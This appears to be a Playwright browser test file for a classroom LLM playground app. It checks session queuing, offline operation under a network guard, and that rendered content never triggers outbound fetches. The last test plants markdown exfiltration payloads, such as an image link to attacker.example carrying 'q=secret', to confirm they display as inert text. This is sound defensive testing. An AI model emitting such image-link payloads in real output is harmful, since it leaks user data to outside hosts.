"""Browser (issue 10): the app is safe to serve to a class.

* eight sessions generate at once against one server: all finish, their energy windows never overlap
  (read back from the History database), and each waiting session says it is waiting and for how many
  answers (the Playground's status line, "Queued: waiting for N runs ahead of yours");
* the whole app, driven page by page, under the network guard (``tests/netguard``): no connection leaves
  the machine, neither from the server nor from the browser;
* model output and uploaded fields never make the browser fetch or link anything.
"""
from __future__ import annotations

import json
import os
import re
import sqlite3
import sys
import time
from contextlib import closing
from datetime import datetime

from sprout_core import store
from sprout_core.evaluate import db as eval_db
from sprout_core.evaluate.prompts import PromptItem
from tests.browser.conftest import ROOT, launch_app, prepare_playground, wait_for_app_idle

SESSIONS = 8
WAITING = re.compile(r"waiting for (\d+) runs? ahead of yours", re.IGNORECASE)
LOCAL = re.compile(r"^(https?|wss?)://127\.0\.0\.1:\d+/|^(data|blob|about):")


def _prepare(page, url: str, prompt: str, max_new: int) -> None:
    prepare_playground(page, url, prompt, max_new, timeout_ms=300_000)


def test_eight_sessions_generate_at_once(browser, tmp_path):
    outside: list[str] = []
    with launch_app(tmp_path, SPROUT_MODEL="embedded") as url:
        contexts = [browser.new_context(viewport={"width": 1400, "height": 1000}) for _ in range(SESSIONS)]
        try:
            pages = []
            for i, ctx in enumerate(contexts):
                ctx.set_default_timeout(120_000)
                ctx.on("request", lambda r: None if LOCAL.match(r.url) else outside.append(r.url))
                p = ctx.new_page()
                _prepare(p, url, f"Name a colour, please ({i}).", 6)
                pages.append(p)
            t0 = time.time()
            for p in pages:
                p.get_by_role("button", name="Run", exact=True).click()
            ahead: dict[int, int] = {}   # session → most answers ahead it was told about
            finished: dict[int, float] = {}
            while len(finished) < SESSIONS:
                assert time.time() - t0 < 900, f"only {len(finished)} of {SESSIONS} sessions finished"
                for i, p in enumerate(pages):
                    if i in finished:
                        continue
                    w = p.get_by_text(WAITING)
                    if w.count():
                        try:
                            n = int(WAITING.search(w.first.inner_text(timeout=2_000)).group(1))
                            ahead[i] = max(ahead.get(i, 0), n)
                        except Exception:  # noqa: BLE001 - the line changed while we read it
                            pass
                    if p.get_by_text("Per level", exact=True).count():
                        finished[i] = time.time() - t0
                time.sleep(0.2)
            for p in pages:
                for level in ("L0", "L1", "L2"):
                    p.get_by_text(re.compile(rf"^{level} answer: \d+ new tokens")).wait_for()
        finally:
            for ctx in contexts:
                ctx.close()
    con = sqlite3.connect(str(tmp_path / "sprout.sqlite"))
    rows = con.execute("SELECT run_id, level, window_start_utc, window_end_utc FROM requests "
                       "WHERE origin = 'playground' ORDER BY window_start_utc").fetchall()
    con.close()
    assert len(rows) == SESSIONS * 3 and len({r[0] for r in rows}) == SESSIONS
    assert all(r[2] and r[3] for r in rows), "every answer records its energy window"
    windows = [(datetime.fromisoformat(r[2]), datetime.fromisoformat(r[3])) for r in rows]
    overlaps = [(a, b) for a, b in zip(windows, windows[1:]) if b[0] < a[1]]
    assert not overlaps, f"{len(overlaps)} energy windows overlap"
    waited = len(ahead)
    report = {"sessions": SESSIONS, "answers": len(rows), "overlapping_windows": len(overlaps),
              "sessions_told_they_wait": waited, "max_ahead_seen": max(ahead.values(), default=0),
              "seconds_to_finish": sorted(round(v, 1) for v in finished.values())}
    print("eight sessions:", json.dumps(report))
    (tmp_path / "eight_sessions.json").write_text(json.dumps(report))
    # all but the session that got the model first wait for their first answer, and are told how many are ahead
    assert waited >= SESSIONS - 1, report
    assert all(n >= 1 for n in ahead.values()) and max(ahead.values()) >= 2, report
    assert not outside, outside[:5]


GUARD = ROOT / "tests" / "netguard"


def test_whole_app_stays_offline_under_the_guard(browser, tmp_path):
    report = tmp_path / "net.jsonl"
    outside: list[str] = []
    env = {"SPROUT_MODEL": "embedded", "PYTHONPATH": os.pathsep.join([str(GUARD), str(ROOT)]),
           "SPROUT_NETGUARD_REPORT": str(report)}
    with launch_app(tmp_path, cmd=[sys.executable, "-m", "sprout_core.serve"], **env) as url:
        ctx = browser.new_context(viewport={"width": 1400, "height": 1000})
        ctx.set_default_timeout(180_000)
        ctx.on("request", lambda r: None if LOCAL.match(r.url) else outside.append(r.url))
        page = ctx.new_page()
        try:
            page.goto(url)
            page.get_by_text("SmolLM2-135M-Instruct").first.wait_for(timeout=300_000)
            _prepare(page, url, "Why is the sky blue?", 4)
            page.get_by_role("button", name="Run", exact=True).click()
            page.get_by_text("Per level", exact=True).wait_for(timeout=300_000)
            for path, marker in (("/history", "Download CSV"), ("/evaluations", "Evaluations"), ("/optimizer", "Optimizer"),
                                 ("/whatif", "What-if")):
                page.goto(url + path)
                page.get_by_text(marker).first.wait_for()
                wait_for_app_idle(page, 300_000)
            assert not page.locator('[data-testid="stException"]').count()
        finally:
            ctx.close()
    found = [json.loads(x) for x in report.read_text().splitlines()] if report.exists() else []
    assert found == [], found[:3]
    assert not outside, outside[:5]


def test_answers_and_uploads_never_make_the_browser_fetch(browser, tmp_path):
    evil = ("![pixel](http://attacker.example/leak.png?q=secret) [click me](http://attacker.example/x) "
            "<http://attacker.example/auto> www.attacker.example")
    prompts = [PromptItem("x1", "Tell me " + evil, "task " + evil, "reference " + evil)]
    cfg = eval_db.RunConfig(prompt_set="upload " + evil, n=1, seed=0, levels=("L0", "L1"), judge="none", model="m")
    with closing(store.connect(tmp_path / "sprout.sqlite")) as c:  # the server's database, before it starts
        run_id = eval_db.get_or_create_run(c, cfg, prompts)
        for lv in ("L0", "L1"):
            eval_db.insert_answer(c, run_id, "x1", lv, {"text": f"{lv} says {evil}", "new_tokens": 3})
    fetched: list[str] = []
    with launch_app(tmp_path, SPROUT_MODEL="embedded") as url:
        ctx = browser.new_context(viewport={"width": 1400, "height": 1000})
        ctx.set_default_timeout(180_000)
        ctx.on("request", lambda r: fetched.append(r.url) if "attacker" in r.url else None)
        page = ctx.new_page()
        try:
            page.goto(url + "/evaluations")
            page.get_by_text("Reference answer:").first.wait_for(timeout=300_000)
            wait_for_app_idle(page, 300_000)
            main = page.locator('[data-testid="stMain"], section.main').first
            assert main.locator('img[src*="attacker"]').count() == 0
            assert main.locator('a[href*="attacker"]').count() == 0
            assert page.get_by_text("attacker.example").count() > 0  # shown, as text
        finally:
            ctx.close()
    assert fetched == []
